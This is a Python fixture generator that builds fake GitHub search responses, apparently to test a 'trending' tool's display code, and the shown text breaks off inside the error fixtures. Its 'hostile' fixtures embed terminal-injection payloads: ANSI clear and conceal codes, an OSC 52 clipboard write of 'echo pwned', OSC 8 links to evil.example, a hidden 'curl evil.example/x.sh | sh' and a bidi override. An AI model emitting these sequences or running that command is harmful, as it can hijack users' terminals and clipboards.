#!/usr/bin/env python3
"""Generate the `trending` test fixtures under Fixtures/.

Deterministic: fixed seeds, a fixed reference "now" (2026-11-23T12:00:00Z), no
clock, no network, python3 standard library only. Run from anywhere:

    python3 Fixtures/make-fixtures.py

Every repository, owner and description here is made up for this project. The
*shape* (field set, field order, types) follows real GitHub REST responses
(GET /search/repositories, GET /repos/{owner}/{repo}); no recorded data is copied.
"""

import base64
import json
import random
from datetime import datetime, timedelta, timezone
from pathlib import Path

ROOT = Path(__file__).resolve().parent
SEED = 20261123

UTC = timezone.utc
NOW = datetime(2026, 11, 23, 12, 0, 0, tzinfo=UTC)
WINDOW_START = datetime(2026, 11, 22, 12, 0, 0, tzinfo=UTC)
WINDOW_END = datetime(2026, 11, 23, 11, 0, 0, tzinfo=UTC)

API = "https://api.github.com"
WEB = "https://github.com"


def rng_for(name):
    """One independent, reproducible stream per fixture (str seeds are stable)."""
    return random.Random(f"{SEED}:{name}")


def ts(dt):
    return dt.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


# --------------------------------------------------------------------------
# JSON output
# --------------------------------------------------------------------------

# Characters json.dumps(ensure_ascii=False) would leave raw but which must never
# sit raw in a fixture: DEL, the C1 controls, bidi overrides/isolates, and the
# JSON-legal-but-JS-hostile line/paragraph separators. C0 controls are already
# escaped by json.dumps (\u001b, \u0007, \u0000, and the short \n \r \t \b \f).
_EXTRA_ESCAPES = (
    [0x7F]
    + list(range(0x80, 0xA0))
    + list(range(0x202A, 0x202F))
    + list(range(0x2066, 0x206A))
    + [0x2028, 0x2029]
)
_ESCAPE_TABLE = {cp: "\\u%04x" % cp for cp in _EXTRA_ESCAPES}


def dumps(obj):
    text = json.dumps(obj, indent=2, ensure_ascii=False)
    # Safe on the whole document: these characters can only occur inside strings.
    return text.translate(_ESCAPE_TABLE) + "\n"


def write_text(rel, text):
    path = ROOT / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        f.write(text)
    return path


def write_json(rel, obj):
    return write_text(rel, dumps(obj))


# --------------------------------------------------------------------------
# IDs
# --------------------------------------------------------------------------


def legacy_node_id(typename, ident):
    # e.g. "04:User1234" / "012:Organization99" / "010:Repository42"
    raw = f"0{len(typename)}:{typename}{ident}".encode()
    return base64.b64encode(raw).decode()


def _msgpack_uint(n):
    if n < 0x80:
        return bytes([n])
    if n < 0x100:
        return bytes([0xCC, n])
    if n < 0x10000:
        return bytes([0xCD]) + n.to_bytes(2, "big")
    if n < 0x100000000:
        return bytes([0xCE]) + n.to_bytes(4, "big")
    return bytes([0xCF]) + n.to_bytes(8, "big")


def nextgen_node_id(prefix, ident):
    # Newer objects get "R_kgDO..." style IDs: prefix + base64url(msgpack([0, id])).
    payload = bytes([0x92, 0x00]) + _msgpack_uint(ident)
    return prefix + "_" + base64.urlsafe_b64encode(payload).decode().rstrip("=")


_used_repo_ids = set()


def repo_id_for(created, rng):
    """Repository ids grow with creation time (~3.3 new repos a second)."""
    base = 1_187_400_000 + int((created - WINDOW_START).total_seconds() * 3.3)
    ident = base + rng.randint(0, 3)
    while ident in _used_repo_ids:
        ident += 1
    _used_repo_ids.add(ident)
    return ident


# --------------------------------------------------------------------------
# Licenses (GitHub's fixed license catalogue objects)
# --------------------------------------------------------------------------


def _lic(key, name, spdx, num, url=True):
    return {
        "key": key,
        "name": name,
        "spdx_id": spdx,
        "url": f"{API}/licenses/{key}" if url else None,
        "node_id": legacy_node_id("License", num),
    }


LICENSES = {
    "mit": _lic("mit", "MIT License", "MIT", 13),
    "apache-2.0": _lic("apache-2.0", "Apache License 2.0", "Apache-2.0", 2),
    "gpl-3.0": _lic("gpl-3.0", "GNU General Public License v3.0", "GPL-3.0", 9),
    "agpl-3.0": _lic("agpl-3.0", "GNU Affero General Public License v3.0", "AGPL-3.0", 1),
    "bsd-3-clause": _lic("bsd-3-clause", 'BSD 3-Clause "New" or "Revised" License', "BSD-3-Clause", 5),
    "bsd-2-clause": _lic("bsd-2-clause", 'BSD 2-Clause "Simplified" License', "BSD-2-Clause", 4),
    "mpl-2.0": _lic("mpl-2.0", "Mozilla Public License 2.0", "MPL-2.0", 14),
    "unlicense": _lic("unlicense", "The Unlicense", "Unlicense", 15),
    "lgpl-3.0": _lic("lgpl-3.0", "GNU Lesser General Public License v3.0", "LGPL-3.0", 12),
    # GitHub's "could not identify" license: spdx_id NOASSERTION and url null.
    "other": _lic("other", "Other", "NOASSERTION", 0, url=False),
}


def lic(key):
    return None if key is None else dict(LICENSES[key])


# --------------------------------------------------------------------------
# Owners and repository objects
# --------------------------------------------------------------------------

_owners = {}


def owner(login, rng=None, kind="User", ident=None):
    """Same login -> same id/type everywhere. Old accounts keep legacy node ids."""
    if login in _owners:
        return dict(_owners[login])
    if ident is None:
        ident = rng.randint(1_200_000, 248_000_000)
    if ident < 95_000_000:
        node_id = legacy_node_id(kind, ident)
    else:
        node_id = nextgen_node_id("U" if kind == "User" else "O", ident)
    base = f"{API}/users/{login}"
    obj = {
        "login": login,
        "id": ident,
        "node_id": node_id,
        "avatar_url": f"https://avatars.githubusercontent.com/u/{ident}?v=4",
        "gravatar_id": "",
        "url": base,
        "html_url": f"{WEB}/{login}",
        "followers_url": f"{base}/followers",
        "following_url": f"{base}/following{{/other_user}}",
        "gists_url": f"{base}/gists{{/gist_id}}",
        "starred_url": f"{base}/starred{{/owner}}{{/repo}}",
        "subscriptions_url": f"{base}/subscriptions",
        "organizations_url": f"{base}/orgs",
        "repos_url": f"{base}/repos",
        "events_url": f"{base}/events{{/privacy}}",
        "received_events_url": f"{base}/received_events",
        "type": kind,
        "site_admin": False,
    }
    _owners[login] = obj
    return dict(obj)


def times_in_window(rng, created=None):
    """created_at in the search window; pushed_at/updated_at strictly after it, before NOW."""
    if created is None:
        span = int((WINDOW_END - WINDOW_START).total_seconds())
        created = WINDOW_START + timedelta(seconds=rng.randint(0, span))
    room = int((NOW - created).total_seconds()) - 1
    pushed = created + timedelta(seconds=rng.randint(30, max(31, room // 2 + 30)))
    updated = pushed + timedelta(seconds=rng.randint(1, max(2, int((NOW - pushed).total_seconds()) - 1)))
    assert created < pushed < NOW and pushed < updated < NOW, (created, pushed, updated)
    return created, pushed, updated


def repo(
    *,
    rng,
    full_name,
    owner_obj,
    description,
    language,
    stars,
    forks,
    open_issues,
    license_key,
    homepage,
    topics,
    created,
    pushed,
    updated,
    size=None,
    fork=False,
    archived=False,
    is_template=False,
    default_branch="main",
    has_pages=False,
    has_discussions=False,
    has_wiki=True,
    ident=None,
    score=1.0,
):
    """A repository object with exactly the field set and order of a modern
    search item. score=None drops "score" (GET /repos has none);
    topics=MISSING drops the "topics" key (older shapes)."""
    name = full_name.split("/", 1)[1]
    if ident is None:
        ident = repo_id_for(created, rng)
    if size is None:
        size = rng.randint(8, 52_000)
    u = f"{API}/repos/{full_name}"
    obj = {
        "id": ident,
        "node_id": nextgen_node_id("R", ident),
        "name": name,
        "full_name": full_name,
        "private": False,
        "owner": owner_obj,
        "html_url": f"{WEB}/{full_name}",
        "description": description,
        "fork": fork,
        "url": u,
        "forks_url": f"{u}/forks",
        "keys_url": f"{u}/keys{{/key_id}}",
        "collaborators_url": f"{u}/collaborators{{/collaborator}}",
        "teams_url": f"{u}/teams",
        "hooks_url": f"{u}/hooks",
        "issue_events_url": f"{u}/issues/events{{/number}}",
        "events_url": f"{u}/events",
        "assignees_url": f"{u}/assignees{{/user}}",
        "branches_url": f"{u}/branches{{/branch}}",
        "tags_url": f"{u}/tags",
        "blobs_url": f"{u}/git/blobs{{/sha}}",
        "git_tags_url": f"{u}/git/tags{{/sha}}",
        "git_refs_url": f"{u}/git/refs{{/sha}}",
        "trees_url": f"{u}/git/trees{{/sha}}",
        "statuses_url": f"{u}/statuses/{{sha}}",
        "languages_url": f"{u}/languages",
        "stargazers_url": f"{u}/stargazers",
        "contributors_url": f"{u}/contributors",
        "subscribers_url": f"{u}/subscribers",
        "subscription_url": f"{u}/subscription",
        "commits_url": f"{u}/commits{{/sha}}",
        "git_commits_url": f"{u}/git/commits{{/sha}}",
        "comments_url": f"{u}/comments{{/number}}",
        "issue_comment_url": f"{u}/issues/comments{{/number}}",
        "contents_url": f"{u}/contents/{{+path}}",
        "compare_url": f"{u}/compare/{{base}}...{{head}}",
        "merges_url": f"{u}/merges",
        "archive_url": f"{u}/{{archive_format}}{{/ref}}",
        "downloads_url": f"{u}/downloads",
        "issues_url": f"{u}/issues{{/number}}",
        "pulls_url": f"{u}/pulls{{/number}}",
        "milestones_url": f"{u}/milestones{{/number}}",
        "notifications_url": f"{u}/notifications{{?since,all,participating}}",
        "labels_url": f"{u}/labels{{/name}}",
        "releases_url": f"{u}/releases{{/id}}",
        "deployments_url": f"{u}/deployments",
        "created_at": ts(created),
        "updated_at": ts(updated),
        "pushed_at": ts(pushed),
        "git_url": f"git://github.com/{full_name}.git",
        "ssh_url": f"git@github.com:{full_name}.git",
        "clone_url": f"{WEB}/{full_name}.git",
        "svn_url": f"{WEB}/{full_name}",
        "homepage": homepage,
        "size": size,
        "stargazers_count": stars,
        "watchers_count": stars,
        "language": language,
        "has_issues": not fork,
        "has_projects": True,
        "has_downloads": True,
        "has_wiki": has_wiki,
        "has_pages": has_pages,
        "has_discussions": has_discussions,
        "forks_count": forks,
        "mirror_url": None,
        "archived": archived,
        "disabled": False,
        "open_issues_count": open_issues,
        "license": lic(license_key),
        "allow_forking": True,
        "is_template": is_template,
        "web_commit_signoff_required": False,
        "topics": topics,
        "visibility": "public",
        "forks": forks,
        "open_issues": open_issues,
        "watchers": stars,
        "default_branch": default_branch,
        "score": score,
    }
    if topics is MISSING:
        del obj["topics"]
    if score is None:
        del obj["score"]
    return obj


MISSING = object()


def search_body(items, total_count=None, incomplete=False):
    return {
        "total_count": len(items) if total_count is None else total_count,
        "incomplete_results": incomplete,
        "items": items,
    }


# --------------------------------------------------------------------------
# 1. edge-cases.json
# --------------------------------------------------------------------------

LONG_DESCRIPTION = (
    "A header-only C++23 library for building incremental, cache-friendly spatial indexes "
    "(R*-trees, k-d trees and loose octrees) over millions of moving objects, with lock-free "
    "readers, SIMD-accelerated bulk loading, deterministic serialization to a compact binary "
    "format, optional Python bindings, a visual debugger for inspecting node splits frame by "
    "frame, and a benchmark suite that compares every structure against a brute-force "
    "baseline on real game and robotics traces."
)
assert len(LONG_DESCRIPTION) >= 300

# (index, full_name, what it covers) - also used to write the README table.
EDGE_NOTES = []


def make_edge_cases():
    r = rng_for("edge-cases")
    specs = [
        dict(
            full_name="kosmos-labs/starfall", owner=("kosmos-labs", "Organization", 31_544_208),
            description="Distributed event store with 64-bit everything",
            language="Rust", stars=5_000_000_000, forks=123_456_789, open_issues=4_321,
            license_key="mit", homepage="https://starfall.example.com/docs",
            topics=["database", "distributed-systems", "event-sourcing", "rust"],
            has_pages=True, has_discussions=True,
            note="stargazers_count 5000000000 (> 2^32; forks 123456789); owner type Organization "
                 "(legacy node_id); real homepage; has_discussions/has_pages true",
        ),
        dict(
            full_name="lin-wei-dev/mo-yu", owner=("lin-wei-dev", "User", 187_220_431),
            description="摸鱼神器：在终端里运行的番茄钟与待办清单，支持中文输入法和 Emoji 提醒",
            language="Go", stars=48_213, forks=2_107, open_issues=88,
            license_key="apache-2.0", homepage="", topics=["cli", "go", "pomodoro", "todo"],
            note='Chinese (CJK, full-width punctuation) description; homepage ""',
        ),
        dict(
            full_name="hanako-tanaka/furigana-kit", owner=("hanako-tanaka", "User", 8_816_302),
            description="日本語テキストに自動でふりがなを付けるSwiftライブラリ（iOS・macOS対応）",
            language="Swift", stars=21_077, forks=512, open_issues=14,
            license_key="other", homepage=None, topics=["ios", "japanese", "macos", "swift"],
            note='Japanese description (kana + kanji); license spdx_id "NOASSERTION" (name "Other", url null); homepage null',
        ),
        dict(
            full_name="pixel-pals/standup-board", owner=("pixel-pals", "Organization", 201_554_117),
            description="👩‍💻 Async stand-up board for remote teams — made in Tokyo 🇯🇵 with 🎉 confetti",
            language="TypeScript", stars=9_034, forks=377, open_issues=41,
            license_key="mit", homepage="https://pixel-pals.example.net",
            topics=["dashboard", "nextjs", "remote-work", "typescript"],
            note="emoji description with a ZWJ sequence (👩‍💻), a flag (🇯🇵) and an em dash; "
                 "owner Organization (next-gen O_ node_id); real homepage",
        ),
        dict(
            full_name="nour-haddad/tashkeel", owner=("nour-haddad", "User", 142_908_775),
            description="أداة CLI لتشكيل النصوص العربية تلقائيًا باستخدام نموذج صغير يعمل دون اتصال",
            language="Python", stars=4_410, forks=263, open_issues=9,
            license_key="gpl-3.0", homepage=None, topics=["arabic", "nlp", "python"],
            note="right-to-left (Arabic) description with an embedded left-to-right word (CLI)",
        ),
        dict(
            full_name="ziggy-stardust-dev/tinyalloc", owner=("ziggy-stardust-dev", "User", 63_018_559),
            description="Fast &amp; small &lt;3 &#39;quoted&#39;",
            language="Zig", stars=2_380, forks=61, open_issues=3,
            license_key="bsd-2-clause", homepage=None, topics=["allocator", "zig"],
            note="description with HTML entities (&amp; &lt; &#39;) that must be shown as-is, not decoded",
        ),
        dict(
            full_name="octree-works/spatialite-cpp", owner=("octree-works", "User", 90_334_871),
            description=LONG_DESCRIPTION,
            language="C++", stars=1_204, forks=88, open_issues=17,
            license_key="bsd-3-clause", homepage="https://octree-works.example.org/spatialite",
            topics=["cpp", "cpp23", "game-development", "robotics", "spatial-index"],
            note=f"very long description ({len(LONG_DESCRIPTION)} chars); real homepage",
        ),
        dict(
            full_name="ilse-vermeer/DotnetQuickCheck", owner=("ilse-vermeer", "User", 22_671_940),
            description=None,
            language="C#", stars=611, forks=27, open_issues=5,
            license_key="mit", homepage=None, topics=MISSING,
            note='description null; the "topics" key is MISSING entirely; mixed-case repo name',
        ),
        dict(
            full_name="quiet-otter/dotfiles-2026", owner=("quiet-otter", "User", 233_470_012),
            description="My dotfiles. Nothing to see here.",
            language=None, stars=305, forks=12, open_issues=0,
            license_key=None, homepage="", topics=[],
            note='language null; license null; topics [] (present but empty); homepage ""; open_issues 0',
        ),
        dict(
            full_name="someorg/some-repo", owner=None,
            description="Owner account was deleted; the repository is still listed",
            language="TypeScript", stars=152, forks=4, open_issues=2,
            license_key="apache-2.0", homepage=None, topics=["typescript"],
            note='"owner": null (full_name still "someorg/some-repo")',
        ),
        dict(
            full_name="forky-mcforkface/h3-server", owner=("forky-mcforkface", "User", 110_203_448),
            description="Personal fork with HTTP/3 experiments; not for production",
            language="Rust", stars=77, forks=1, open_issues=0,
            license_key="mit", homepage=None, topics=["rust"],
            fork=True,
            note="fork: true (has_issues false, as on most forks)",
        ),
        dict(
            full_name="gopher-grandma/retired-proxy", owner=("gopher-grandma", "User", 4_210_977),
            description="Tiny SOCKS5 proxy. Archived: superseded by the standard library.",
            language="Go", stars=0, forks=0, open_issues=0,
            license_key="unlicense", homepage=None, topics=["go", "proxy", "socks5"],
            archived=True, default_branch="master",
            note="archived: true; zero stars/forks/issues; default_branch master; owner with legacy node_id",
        ),
    ]
    items = []
    for i, s in enumerate(specs):
        created, pushed, updated = times_in_window(r)
        own = None
        if s["owner"] is not None:
            login, kind, oid = s["owner"]
            own = owner(login, kind=kind, ident=oid)
        items.append(
            repo(
                rng=r, full_name=s["full_name"], owner_obj=own, description=s["description"],
                language=s["language"], stars=s["stars"], forks=s["forks"],
                open_issues=s["open_issues"], license_key=s["license_key"],
                homepage=s["homepage"], topics=s["topics"], created=created, pushed=pushed,
                updated=updated, fork=s.get("fork", False), archived=s.get("archived", False),
                default_branch=s.get("default_branch", "main"),
                has_pages=s.get("has_pages", False), has_discussions=s.get("has_discussions", False),
            )
        )
        EDGE_NOTES.append((i, s["full_name"], s["stars"], s["note"]))
    return search_body(items, total_count=12)


# --------------------------------------------------------------------------
# 2. 100-items.json
# --------------------------------------------------------------------------

LANGS = [
    ("Python", 16), ("TypeScript", 14), ("Rust", 11), ("Go", 9), ("JavaScript", 7),
    ("Swift", 5), ("C++", 5), ("Jupyter Notebook", 3), ("C", 3), ("Java", 3),
    ("Kotlin", 3), ("Zig", 2), ("C#", 3), ("Shell", 3), ("Ruby", 2), ("Lua", 2),
    ("Dart", 1), ("Elixir", 1), ("HTML", 2), (None, 5),
]
LICENSE_WEIGHTS = [
    ("mit", 38), ("apache-2.0", 18), (None, 20), ("gpl-3.0", 6), ("agpl-3.0", 3),
    ("bsd-3-clause", 4), ("mpl-2.0", 3), ("unlicense", 2), ("lgpl-3.0", 1), ("other", 5),
]
NAME_STEMS = [
    "aurora", "basalt", "cinder", "driftwood", "ember", "fjord", "glacier", "harbor",
    "iris", "juniper", "kelp", "lumen", "mosaic", "nectar", "onyx", "pylon", "quartz",
    "rivet", "sable", "tundra", "umber", "vortex", "willow", "xenon", "yarrow", "zephyr",
    "atlas", "beacon", "comet", "delta", "ferric", "granite", "halo", "ion", "jetty",
    "koi", "lattice", "marble", "nova", "orbit", "prism", "quill", "relay", "spark",
    "tidepool", "vector", "wren", "zinc", "bramble", "cobalt", "dune", "fable", "gust",
    "hazel", "inkwell", "jasper", "kestrel", "lichen", "moss", "nimbus", "otter",
    "pebble", "ripple", "sprout", "thistle", "velvet", "walnut", "yonder",
]
NAME_SUFFIX_BY_LANG = {
    "Rust": ["-rs", "", "-core", "-cli"], "Go": ["-go", "", "d", "-cli"],
    "Python": ["-py", "", "py", "-ml"], "TypeScript": ["-ts", "", "-ui", "-js"],
    "JavaScript": ["-js", "", ".js", "-ui"], "Swift": ["Kit", "-swift", "", "UI"],
    "Zig": ["-zig", ""], "Kotlin": ["-kt", "", "-android"], "Jupyter Notebook": ["-notebooks", "-lab"],
}
GENERIC_SUFFIXES = ["", "-cli", "-db", "-kit", "-lab", "-sync", "-proxy", "-cache", "-lint",
                    "-agent", "-bench", "-studio", "-flow", "-graph", "-vm", "-lsp", "-mcp", "-ops"]
OWNER_SYLLABLES = ["ka", "ri", "zo", "mi", "tan", "vel", "or", "bek", "lu", "sen", "dra", "po",
                   "quin", "ash", "ny", "fel", "gor", "ish", "jun", "mar", "tek", "ula", "vo", "yen"]
ORG_WORDS = ["northwind", "bitforge", "lowtide", "openkiln", "plainsight", "quietloop",
             "redshift", "softcell", "tinyfactory", "wildbyte", "cloudberry", "deepfield"]
THINGS = [
    "terminal UI for Kubernetes logs", "local-first notes app", "MCP server for Postgres",
    "HTTP router", "static site generator", "vector database", "LLM agent framework",
    "Markdown linter", "git TUI", "WebAssembly runtime", "time-series store",
    "package manager", "screenshot tool", "load tester", "feature-flag service",
    "self-hosted RSS reader", "password manager", "OCR pipeline", "audio visualizer",
    "keyboard firmware", "ray tracer", "chess engine", "PDF toolkit", "CSV wrangler",
    "dotfiles manager", "regex debugger", "JSON diff tool", "Discord bot", "2D game engine",
    "shader playground", "speech-to-text wrapper", "reader-mode browser extension",
    "code search engine", "build cache", "container image scanner", "DNS-over-HTTPS resolver",
    "prompt evaluation harness", "home-lab dashboard", "log shipper", "API mocking server",
]
ADJS = ["fast", "tiny", "minimal", "batteries-included", "zero-dependency", "type-safe",
        "local-first", "hackable", "single-binary", "embeddable", "privacy-friendly", "boring"]
FEATS = ["hot reload", "offline support", "a plugin system", "first-class Windows support",
         "streaming output", "SQLite storage", "fuzzy search", "vim keybindings",
         "built-in benchmarks", "OpenTelemetry traces", "a 300-line core", "structured logging"]
TECHS = ["WebGPU", "io_uring", "SQLite", "tokio", "SwiftNIO", "Bun", "eBPF", "tree-sitter",
         "DuckDB", "gRPC"]
TOPIC_BY_LANG = {
    "Python": ["python", "machine-learning", "llm", "fastapi", "data-science"],
    "TypeScript": ["typescript", "react", "nextjs", "nodejs", "deno"],
    "JavaScript": ["javascript", "nodejs", "browser-extension", "vue"],
    "Rust": ["rust", "tokio", "wasm", "performance"], "Go": ["go", "golang", "kubernetes", "grpc"],
    "Swift": ["swift", "ios", "macos", "swiftui"], "C++": ["cpp", "game-engine", "simd"],
    "C": ["c", "embedded", "firmware"], "Zig": ["zig"], "Kotlin": ["kotlin", "android", "compose"],
    "C#": ["csharp", "dotnet", "unity"], "Java": ["java", "spring-boot", "jvm"],
    "Shell": ["bash", "shell", "dotfiles"], "Ruby": ["ruby", "rails"], "Lua": ["lua", "neovim"],
    "Dart": ["dart", "flutter"], "Elixir": ["elixir", "phoenix"], "HTML": ["html", "css"],
    "Jupyter Notebook": ["jupyter-notebook", "tutorial", "pytorch"],
}
GENERIC_TOPICS = ["cli", "self-hosted", "open-source", "developer-tools", "ai", "tui",
                  "productivity", "security", "awesome", "hacktoberfest"]
# A handful of non-ASCII descriptions, at fixed ranks.
NON_ASCII_DESCRIPTIONS = {
    7: "轻量级终端 Markdown 预览器，支持实时刷新与数学公式",
    23: "日本語の形態素解析をブラウザだけで ✨ WebAssembly 製",
    41: "🚀 Ship a static site in one command",
    58: "한국어 맞춤법 검사기 CLI",
    76: "🦀 Safe bindings for SQLite's session extension — 🧪 experimental",
    90: "开源个人知识库 📚 支持双向链接与离线同步",
}


def weighted(r, pairs):
    return r.choices([p[0] for p in pairs], weights=[p[1] for p in pairs], k=1)[0]


def make_owner_login(r):
    n = r.choice([2, 2, 3])
    login = "".join(r.choice(OWNER_SYLLABLES) for _ in range(n))
    login += r.choice(["", "", "", "-dev", "-io", str(r.randint(1, 99)), "-hq", "codes"])
    return login


def make_description(r, lang):
    thing = r.choice(THINGS)
    adj = r.choice(ADJS)
    f1, f2 = r.sample(FEATS, 2)
    article = "An" if adj[0] in "aeiou" else "A"
    templates = [
        f"{article} {adj} {thing}.",
        f"{article} {adj} {thing} with {f1}.",
        f"Yet another {thing}, with {f1} and {f2}.",
        f"{thing[0].upper() + thing[1:]}, but {adj}.",
        f"Experimental {thing} built on {r.choice(TECHS)}.",
        f"{article} {adj} {thing}. {f1[0].upper() + f1[1:]}, {f2}, no config.",
    ]
    if lang is not None:
        templates.append(f"{article} {adj} {thing} written in {lang}.")
    return r.choice(templates)


def make_100_items():
    r = rng_for("100-items")
    n = 100
    # Stars: roughly log-linear from ~9,800 down to ~40, strictly decreasing.
    stars = []
    for i in range(n):
        base = 9_800 * (40 / 9_800) ** (i / (n - 1))
        s = int(round(base * (1 + r.uniform(-0.03, 0.03))))
        if stars and s >= stars[-1]:
            s = stars[-1] - 1
        stars.append(s)
    stars[0] = 9_812  # octo-org/rocket, matches Fixtures/repos/octo-org__rocket.json
    assert all(a > b for a, b in zip(stars, stars[1:])) and 30 <= stars[-1] <= 50

    used_names = set()
    org_pool = {}
    items = []
    for i in range(n):
        if i == 0:
            items.append(rocket(score=1.0))
            used_names.add(items[0]["full_name"])
            continue
        lang = weighted(r, LANGS)
        # owner: ~30% organisations
        if r.random() < 0.3:
            word = r.choice(ORG_WORDS)
            login = word + r.choice(["", "-labs", "hq", "-oss", "-project"])
            kind = "Organization"
        else:
            login = make_owner_login(r)
            kind = "User"
        if login in _owners:
            kind = _owners[login]["type"]
        own = owner(login, r, kind=kind)
        while True:
            suffix = r.choice(NAME_SUFFIX_BY_LANG.get(lang, []) + GENERIC_SUFFIXES)
            name = r.choice(NAME_STEMS) + suffix
            full_name = f"{login}/{name}"
            if full_name not in used_names:
                break
        used_names.add(full_name)
        if i in NON_ASCII_DESCRIPTIONS:
            description = NON_ASCII_DESCRIPTIONS[i]
        elif r.random() < 0.05:
            description = None
        else:
            description = make_description(r, lang)
        roll = r.random()
        if roll < 0.5:
            homepage = None
        elif roll < 0.75:
            homepage = ""
        elif roll < 0.9:
            homepage = f"https://{login}.github.io/{name}/"
        else:
            homepage = f"https://{name.lower().replace('.', '-')}.example.dev"
        pool = TOPIC_BY_LANG.get(lang, []) + GENERIC_TOPICS
        k = r.choice([0, 1, 2, 3, 3, 4, 5, 6])
        topics = sorted(set(r.sample(pool, min(k, len(pool)))))
        created, pushed, updated = times_in_window(r)
        items.append(
            repo(
                rng=r, full_name=full_name, owner_obj=own, description=description,
                language=lang, stars=stars[i],
                forks=int(stars[i] * r.uniform(0.01, 0.14)),
                open_issues=r.choice([0, 0, 1, 2, 3, 5, 8, 13, 21, 40]),
                license_key=weighted(r, LICENSE_WEIGHTS), homepage=homepage, topics=topics,
                created=created, pushed=pushed, updated=updated,
                default_branch=r.choice(["main"] * 8 + ["master", "dev"]),
                has_pages=r.random() < 0.15, has_discussions=r.random() < 0.2,
                has_wiki=r.random() < 0.8, is_template=r.random() < 0.03,
            )
        )
    return search_body(items, total_count=4821)


# --------------------------------------------------------------------------
# 3./4. empty.json, incomplete.json
# --------------------------------------------------------------------------


def make_incomplete():
    r = rng_for("incomplete")
    specs = [
        ("marisol-dev/sprout-sync", "User", 154_611_020, "Two-way sync between Obsidian vaults and plain git repos",
         "TypeScript", 812, "mit", ["obsidian", "sync", "typescript"]),
        ("lowtide-oss/kelp", "Organization", 178_020_553, "Columnar log search that fits on a Raspberry Pi",
         "Rust", 356, "apache-2.0", ["logs", "raspberry-pi", "rust", "search"]),
        ("benjiro/pebble-ml", "User", 5_870_114, "Notebook-sized gradient boosting, explained line by line",
         "Python", 97, None, []),
    ]
    items = []
    for full_name, kind, oid, desc, lang, st, lk, topics in specs:
        created, pushed, updated = times_in_window(r)
        items.append(repo(
            rng=r, full_name=full_name, owner_obj=owner(full_name.split("/")[0], kind=kind, ident=oid),
            description=desc, language=lang, stars=st, forks=st // 19, open_issues=r.randint(0, 9),
            license_key=lk, homepage=None, topics=topics, created=created, pushed=pushed, updated=updated,
        ))
    return search_body(items, total_count=3, incomplete=True)


# --------------------------------------------------------------------------
# 5. hostile.json
# --------------------------------------------------------------------------

ESC = "\u001b"
BEL = "\u0007"
OSC52 = f"{ESC}]52;c;ZWNobyBwd25lZA=={BEL}"           # writes "echo pwned" to the clipboard
OSC8 = f"{ESC}]8;;https://evil.example{ESC}\\click{ESC}]8;;{ESC}\\"
HOSTILE_NOTES = []


def make_hostile():
    r = rng_for("hostile")
    specs = [
        dict(
            login="mallory", kind="User", oid=66_600_001, name=f"evil{ESC}[31mrepo",
            description=f"Harmless formatter{ESC}[2J{ESC}[H screen wiped{BEL}",
            language="Rust", homepage=None, topics=["formatter", "rust"], stars=6_660,
            note="name/full_name (and so every URL) contain ESC[31m; description has ESC[2J ESC[H (clear screen, cursor home) and a BEL",
        ),
        dict(
            login="clipjack", kind="User", oid=166_000_002, name="copy-helper",
            description=f"Copies things for you {OSC52}nothing to see",
            language=f"Go{ESC}[5m", homepage=None, topics=["clipboard", "go"], stars=3_210,
            note="description has an OSC 52 clipboard write (ZWNobyBwd25lZA== = \"echo pwned\", BEL-terminated); language is \"Go\\u001b[5m\" (blink)",
        ),
        dict(
            login="linkfarm", kind="Organization", oid=166_000_003, name="docs-site",
            description=f"Read the docs: {OSC8} (safe, promise)",
            language="TypeScript",
            homepage=f"https://docs.example.com/{ESC}]8;;https://evil.example{BEL}home{ESC}]8;;{BEL}",
            topics=["docs"], stars=1_500,
            note="description has an OSC 8 hyperlink to https://evil.example (ST-terminated, ESC \\); homepage holds a BEL-terminated OSC 8 link",
        ),
        dict(
            login=f"mal{ESC}[7mlory", kind="User", oid=166_000_004, name="bell-ringer",
            description=f"Ding{BEL}{BEL}{BEL} dong \u009b31mred via C1 CSI\u009b0m",
            language="C", homepage=None, topics=["c"], stars=777,
            note="owner.login (and owner URLs, full_name) contain ESC[7m (reverse video); description has three BELs and C1 CSI \\u009b31m ... \\u009b0m",
        ),
        dict(
            login="crlf-carl", kind="User", oid=166_000_005, name="safe-installer",
            description=f"curl evil.example/x.sh | sh\rSafe, audited installer.   {ESC}[8mhidden{ESC}[0m del\u007f nul\u0000end",
            language="Shell", homepage=f"https://safe.example.com\r{ESC}[2Khttps://evil.example",
            topics=[f"cli{ESC}[8m", "installer", f"shell{BEL}"], stars=404,
            note="description uses a CR overwrite (\"curl evil.example/x.sh | sh\" hidden behind \"Safe, audited installer.\"), ESC[8m conceal, DEL \\u007f and NUL \\u0000; homepage has CR + ESC[2K; topics contain ESC[8m and BEL",
        ),
        dict(
            login="tabitha", kind="User", oid=166_000_006, name="multi-line",
            description="Line one\n\tindented line two\nName: \u202eexe.txt\u202c (RLO bidi override)",
            language="Python", homepage=None, topics=["python"], stars=42,
            note="legit TAB and LF inside the description (multi-line), plus a U+202E RLO bidi override (Trojan-Source style) closed by U+202C",
        ),
    ]
    items = []
    for i, s in enumerate(specs):
        created, pushed, updated = times_in_window(r)
        full_name = f"{s['login']}/{s['name']}"
        items.append(repo(
            rng=r, full_name=full_name, owner_obj=owner(s["login"], kind=s["kind"], ident=s["oid"]),
            description=s["description"], language=s["language"], stars=s["stars"],
            forks=s["stars"] // 25, open_issues=r.randint(0, 6), license_key="mit",
            homepage=s["homepage"], topics=s["topics"], created=created, pushed=pushed, updated=updated,
        ))
        HOSTILE_NOTES.append((i, s["note"]))
    return search_body(items, total_count=6)


# --------------------------------------------------------------------------
# 6. errors
# --------------------------------------------------------------------------

SEARCH_DOCS = "https://docs.github.com/v3/search/"


def make_errors():
    out = {}
    out["422-validation-failed.json"] = {
        "message": "Validation Failed",
        "errors": [{
            "message": "None of the search qualifiers apply to this search type.",
            "resource": "Search",
            "field": "q",
            "code": "invalid",
        }],
        "documentation_url": SEARCH_DOCS,
        "status": "422",
    }
    out["422-only-first-1000.json"] = {
        "message": "Only the first 1000 search results are available",
        "documentation_url": SEARCH_DOCS,
        "status": "422",
    }
    out["403-primary-rate-limit.json"] = {
        "message": "API rate limit exceeded for 203.0.113.7. (But here's the good news: "
                   "Authenticated requests get a higher rate limit. Check out the documentation "
                   "for more details.)",
        "documentation_url": "https://docs.github.com/rest/overview/rate-limits-for-the-rest-api",
        "status": "403",
    }
    out["403-secondary-rate-limit.json"] = {
        "message": "You have exceeded a secondary rate limit. Please wait a few minutes before "
                   "you try again. If you reach out to GitHub Support for help, please include "
